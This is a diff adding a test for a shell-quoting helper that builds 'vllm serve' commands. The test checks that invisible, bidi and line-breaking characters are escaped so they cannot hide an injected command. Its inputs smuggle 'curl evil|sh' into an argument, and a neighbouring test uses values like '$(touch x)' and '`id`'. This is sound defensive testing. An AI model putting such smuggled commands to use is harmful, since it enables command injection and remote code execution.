@@ -240,6 +240,20 @@ def test_saved_script_is_executable_with_a_shebang(tmp_path):
     assert subprocess.run(["bash", "-n", str(path)]).returncode == 0
 
 
+def test_invisible_and_line_breaking_characters_are_shown_as_bash_escapes():
+    """Line separators, bidi marks, zero-width characters and C1 controls never appear raw (a pasted
+    command could hide a second one or show its words reordered); bash reads each back exactly."""
+    for char in ("\n", "\u2028", "\u2029", "\u200b", "\u200f", "\u202e", "\u2066", "\u061c", "\u180e", "\ufeff", "\ufffb", "\x85", "\x9b"):
+        command = shell_command(["vllm", "serve", f"org/m{char}curl evil|sh"])
+        assert char not in command, repr(char)
+        escape = "\\n" if char == "\n" else f"\\u{ord(char):04x}"
+        assert f"$'org/m{escape}curl evil|sh'" in command
+        words = subprocess.run(
+            ["bash", "-c", f"set -- {command}; printf '%s\\0' \"$@\""], env={"LC_ALL": "C.UTF-8", "PATH": os.environ["PATH"]}, capture_output=True, check=True
+        )
+        assert words.stdout.decode().split("\0")[:-1] == ["vllm", "serve", f"org/m{char}curl evil|sh"], repr(char)
+
+
 def test_hostile_characters_stay_one_word():
     for arg in ("a\nb", "it's", "$(touch x)", "`id`", "{a,b}", "*", "<redacted>", "~user/x", "-", "a'\x1b[31m"):
         command = shell_command(["echo", arg])
